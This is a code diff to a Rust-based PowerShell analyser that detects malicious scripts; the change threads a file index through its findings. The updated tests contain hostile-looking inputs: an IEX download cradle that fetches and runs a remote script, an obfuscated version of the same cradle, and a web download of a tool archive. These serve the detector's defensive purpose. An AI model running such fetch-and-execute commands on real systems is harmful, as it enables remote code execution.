@@ -14,8 +14,8 @@ use super::facts::{Act, Found, Taint, Val};
 use crate::text::Span;
 
 /// Analyse a PowerShell script found at `base` in its file, line by line.
-pub(crate) fn analyse(text: &str, base: usize, world: &mut World) -> Found {
-    let mut out = Found::default();
+pub(crate) fn analyse(text: &str, base: usize, file: usize, world: &mut World) -> Found {
+    let mut out = Found::in_file(file);
     // a TCP client on one line and its stream run as commands on another
     let whole = fold(text);
     if let Some(m) = TCP.find(&whole)
@@ -40,6 +40,12 @@ pub(crate) fn analyse(text: &str, base: usize, world: &mut World) -> Found {
         let span = Span::new(base + pos, base + pos + line.trim_end().len());
         out.extend(analyse_command(line, span, world));
         pos += line.len();
+    }
+    for f in &mut out.facts {
+        f.file = file;
+    }
+    for s in &mut out.stmts {
+        s.file = file;
     }
     out
 }
@@ -206,6 +212,7 @@ mod tests {
         let f = analyse(
             "IEX (New-Object Net.WebClient).DownloadString('http://x.io/a.ps1')\n",
             0,
+            0,
             &mut w,
         );
         assert!(
@@ -216,11 +223,13 @@ mod tests {
         let f = analyse(
             "I`EX (New-Object Net.WebClient).('Down'+'loadString')('http://x.io/a.ps1')\n",
             0,
+            0,
             &mut w,
         );
         assert!(!f.facts.is_empty());
         let f = analyse(
             "Invoke-WebRequest https://x.io/tool.zip -OutFile tool.zip\n",
+            0,
             0,
             &mut w,
         );
